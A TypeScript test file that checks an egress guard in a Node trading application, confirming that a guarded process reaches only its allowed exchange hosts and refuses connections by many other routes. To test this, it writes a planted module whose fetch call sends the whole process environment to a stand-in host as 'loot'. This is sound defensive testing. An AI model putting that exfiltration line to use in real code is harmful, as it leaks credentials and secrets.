import { spawn, spawnSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import http from 'node:http';
import { createServer, type AddressInfo, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { TRADING_VENUES } from '../shared/adapters/ccxt/capabilities.ts';
import { tradingHosts, VENUE_HOSTS } from './venue-hosts.ts';

interface Told {
  readonly ways: Readonly<Record<string, string>>;
  readonly allowed: Readonly<Record<string, string>>;
  readonly refused: number;
  readonly places: readonly string[];
}

let told: Told;
let evilHeard = 0;
const folder = mkdtempSync(path.join(tmpdir(), 'egress-'));
const servers: Server[] = [];

async function listening(server: Server, where: number | string): Promise<string> {
  servers.push(server);
  await new Promise<void>((resolve) => { if (typeof where === 'number') server.listen(where, '127.0.0.1', resolve); else server.listen(where, resolve); });
  return typeof where === 'string' ? where : `127.0.0.1:${(server.address() as AddressInfo).port}`;
}

beforeAll(async () => {
  const venue = await listening(http.createServer((_, response) => { response.end('{}'); }), 0);
  const evil = await listening(createServer((socket) => { evilHeard++; socket.end('HTTP/1.1 200 OK\r\ncontent-length: 0\r\n\r\n'); }), 0);
  const near = await listening(createServer((socket) => { socket.end(); }), path.join(folder, 'near.sock'));
  const planted = path.join(folder, 'planted.mjs');
  writeFileSync(planted, 'export const leak = (to) => fetch(`${to}/?loot=${encodeURIComponent(JSON.stringify(process.env))}`);\n');
  const child = spawn(process.execPath, ['--disable-warning=ExperimentalWarning', path.join(import.meta.dirname, 'egress-process.contract.ts'), venue, evil, near, planted], { stdio: ['ignore', 'pipe', 'inherit'] });
  let text = '';
  child.stdout.setEncoding('utf8').on('data', (part: string) => { text += part; });
  await new Promise((resolve) => { child.once('close', resolve); });
  told = JSON.parse(text);
});
afterAll(() => {
  for (const server of servers) server.close();
  rmSync(folder, { recursive: true, force: true });
});

describe('a process whose connections are guarded', () => {
  it('reaches no other place, by whatever way, and a planted module carries nothing out', () => {
    expect(evilHeard).toBe(0);
    const { 'net, options that change': changing, 'putting it back': putBack, 'guarding again, wider': wider, 'the WebSocket of Node': plain, ...rest } = told.ways;
    expect(Object.keys(rest).length).toBeGreaterThan(20);
    for (const [way, outcome] of Object.entries(rest)) expect({ way, outcome }).toMatchObject({ outcome: expect.stringMatching(/^RefusedError EEGRESS no connection to ".+": this process may reach api\.venue\.example:443, 127\.0\.0\.1:\d+, localhost:\d+, .+ alone$/) });
    expect(plain).toMatch(/refused/);
    expect(changing).toBe('the venue, as it was first said');
    expect(putBack).toMatch(/TypeError/);
    expect(wider).toMatch(/guarded already/);
  });

  it('reaches what it is for', () => {
    expect(told.allowed).toEqual({ net: 'reached', http: 'reached', fetch: 'reached', ws: 'reached', path: 'reached', 'net, by name': 'reached', 'fetch, by name': 'reached', lookup: 'reached' });
  });

  it('says what was refused, each place once', () => {
    expect(told.refused).toBeGreaterThan(20);
    expect(told.places).toEqual([...new Set(told.places)]);
    expect(told.places).toContain('key.evil.example');
  });

  it.each(['http://a.example', 'a.example:99999', '', 'a b', '*'])('takes no host like "%s"', (host) => {
    const script = `import('${path.join(import.meta.dirname, 'egress.ts')}').then(({ guardEgress }) => guardEgress({ hosts: [${JSON.stringify(host)}] })).catch((error) => { process.stdout.write(error.message); })`;
    expect(spawnSync(process.execPath, ['-e', script], { encoding: 'utf8' }).stdout).toContain('expected a host such as');
  });
});

describe('the hosts of a venue', () => {
  it('are there for every venue that can be traded', () => {
    expect(Object.keys(VENUE_HOSTS).toSorted()).toEqual([...TRADING_VENUES].toSorted());
    expect(tradingHosts(['upbit', 'upbit'], ['http://127.0.0.1:8080/x', undefined, 'redis://:word@localhost', 'wss://a.example', 'ws://[::1]:90'])).toEqual(['api.upbit.com', '127.0.0.1:8080', 'localhost:6379', 'a.example:443', '[::1]:90']);
  });

  it.each(TRADING_VENUES)('of %s are those that the SDK calls', async (venue) => {
    const { default: Venue } = await import(`../../node_modules/ccxt/js/src/pro/${venue}.js`);
    const exchange = new Venue({});
    const called = new Set<string>();
    const look = (value: unknown): void => {
      if (typeof value === 'object' && value !== null) for (const part of Object.values(value)) look(part);
      if (typeof value !== 'string' || !value.includes('://')) return;
      const { hostname, port } = new URL(exchange.implodeHostname(value));
      called.add(port === '' ? hostname : `${hostname}:${port}`);
    };
    look(exchange.urls.api);
    expect([...VENUE_HOSTS[venue]].filter((host) => !called.has(host))).toEqual([]);
  });
});
